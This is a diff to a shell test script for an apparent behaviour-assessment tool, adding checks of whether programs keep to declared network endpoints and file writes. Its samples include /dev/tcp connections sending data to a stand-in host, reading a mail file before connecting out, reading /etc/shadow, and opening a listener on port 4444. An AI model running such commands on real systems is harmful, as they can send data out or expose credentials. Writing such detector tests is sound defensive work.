@@ -79,6 +79,19 @@ judged chatter collect.content "not verifiable" "sends bytes that nothing explai
 "$verify" "$work/chatter.hallmark" --key "$work/key.pem.pub" --require collect.content --quiet
 result "$([ $? = 1 ]; echo $?)" "--require of a claim that is not upheld exits 1"
 
+printf 'product: bash\nauthor: assessor\nsource: a test\nendpoints:\n  - name: collector.example\n    port: 80\n    proto: tcp\nwrites: []\n' >"$work/kept.yaml"
+printf 'product: bash\nauthor: assessor\nsource: a test\nendpoints: []\nwrites: []\n' >"$work/broken.yaml"
+assess kept 'exec 3<>/dev/tcp/collector.example/80; echo hello >&3; sleep 0.3' --declaration "$work/kept.yaml"
+judged kept declared.endpoints upheld "keeps to what was declared"
+assess broken 'exec 3<>/dev/tcp/collector.example/80; echo hello >&3; echo x >/tmp/x; sleep 0.3' --declaration "$work/broken.yaml"
+judged broken declared.endpoints refuted "contacts what was not declared"
+judged broken declared.files refuted "... and writes where it was not declared"
+printf 'author: assessor\nendpoints: yes\n' >"$work/wrong.yaml"
+"$hallmark" assess --key "$work/key.pem" -o "$work/wrong.hallmark" --declaration "$work/wrong.yaml" -- /bin/true 2>"$work/err"
+result "$([ $? = 4 ] && [ ! -e "$work/wrong.hallmark" ] && grep -q 'wrong.yaml line' "$work/err"; echo $?)" "a malformed declaration: exit 4, no bundle, file and line"
+assess shut 'cat /srv/documents/letter.eml >/dev/null; exec 3<>/dev/tcp/collector.example/80' --internet closed
+judged shut collect.content "not tested" "with the internet closed nothing is said about what leaves"
+
 assess listens '/usr/bin/python3 -c "import socket,time; s=socket.socket(); s.bind((\"0.0.0.0\",4444)); s.listen(); time.sleep(0.3)"'
 judged listens capable.listening refuted "listens on a port"
 assess curious 'cat /etc/machine-id >/dev/null; cat /etc/shadow >/dev/null'
